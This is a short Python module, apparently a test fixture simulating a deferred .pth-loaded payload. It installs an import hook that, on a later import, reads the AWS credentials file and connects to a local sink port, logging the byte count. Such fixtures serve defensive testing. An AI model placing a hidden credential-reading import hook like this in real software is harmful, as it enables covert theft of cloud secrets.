# Deferred payload: imported by a .pth line at start-up, it only puts a finder first on
# sys.meta_path. The theft happens when the application imports a module at runtime.
import os
import socket
import sys


class PluginFinder:
    stolen = False

    def find_spec(self, name, path=None, target=None):
        if name == "premain_lazy_plugin" and not PluginFinder.stolen:
            PluginFinder.stolen = True
            data = open(os.path.expanduser("~/.aws/credentials")).read()
            socket.create_connection(("127.0.0.1", int(os.environ["PREMAIN_SINK_PORT"])), timeout=3).close()
            open(os.environ["PREMAIN_RESULT"], "a").write("finder: read %d bytes, connected\n" % len(data))
        return None


if os.environ.get("PREMAIN_DEFERRED") == "finder":
    sys.meta_path.insert(0, PluginFinder())
